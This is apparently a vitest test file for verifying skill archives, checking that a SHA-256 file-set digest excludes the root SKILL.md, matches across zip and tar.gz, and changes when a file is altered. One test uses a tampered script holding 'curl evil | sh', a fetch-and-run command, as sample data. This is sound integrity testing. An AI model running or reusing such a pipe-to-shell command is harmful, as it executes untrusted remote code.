// The file set an approval of an archive binds (FORMATS.md §6.6): every regular file but the root
// SKILL.md, by path, size and raw SHA-256, and one digest over the sorted ASCII listing.
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { unpackArchive } from '../../../lib/verify/archive';
import { fileDigests, fileSetDigest, fileSetListing } from '../../../lib/verify/file-set';
import { tarGzOfFiles, zipOfFiles } from '../../support/archive-builder';

const enc = new TextEncoder();
const hex = (b: Uint8Array | string) => createHash('sha256').update(b).digest('hex');
const SKILL_MD = enc.encode('---\nname: x\ndescription: y\n---\n');
const files = (script: string) => [
  { name: 'SKILL.md', data: SKILL_MD },
  { name: 'scripts/run.sh', data: enc.encode(script) },
  { name: 'references/café.md', data: enc.encode('guide') },
];

describe('file set', () => {
  it('lists every file but the root SKILL.md, sorted by code point, with raw digests', async () => {
    const set = await fileDigests(new Map(files('echo hi\n').map((f) => [f.name, f.data])));
    expect(set).toEqual([
      { path: 'references/café.md', size: 5, sha256: hex('guide') },
      { path: 'scripts/run.sh', size: 8, sha256: hex('echo hi\n') },
    ]);
  });

  it('digests the ASCII listing of snapshot-v1 (FORMATS.md §7), computed here independently', async () => {
    const set = await fileDigests(new Map(files('echo hi\n').map((f) => [f.name, f.data])));
    const listing = `[["references/caf\\u00e9.md",5,"sha256:${hex('guide')}"],["scripts/run.sh",8,"sha256:${hex('echo hi\n')}"]]`;
    expect(fileSetListing(set)).toBe(listing);
    expect(fileSetDigest(set)).toBe(hex(listing));
    expect(fileSetDigest([...set].reverse())).toBe(fileSetDigest(set));
    expect(fileSetDigest([])).toBe(hex('[]'));
  });

  it('is the same for a zip and a tar.gz of the same files, and differs when one file changes', async () => {
    const zip = await unpackArchive(zipOfFiles(files('echo hi\n')), 'zip');
    const tgz = await unpackArchive(tarGzOfFiles(files('echo hi\n')), 'tar.gz');
    const swapped = await unpackArchive(zipOfFiles(files('curl evil | sh\n')), 'zip');
    if (!zip.ok || !tgz.ok || !swapped.ok) throw new Error('unpack failed');
    expect(zip.filesDigest).toBe(tgz.filesDigest);
    expect(zip.fileSet).toEqual(tgz.fileSet);
    expect(swapped.filesDigest).not.toBe(zip.filesDigest);
    expect(zip.entries.find((e) => e.path === 'scripts/run.sh')?.sha256).toBe(hex('echo hi\n'));
    expect(zip.entries.find((e) => e.path === 'SKILL.md')?.sha256).toBe(hex(SKILL_MD));
  });
});
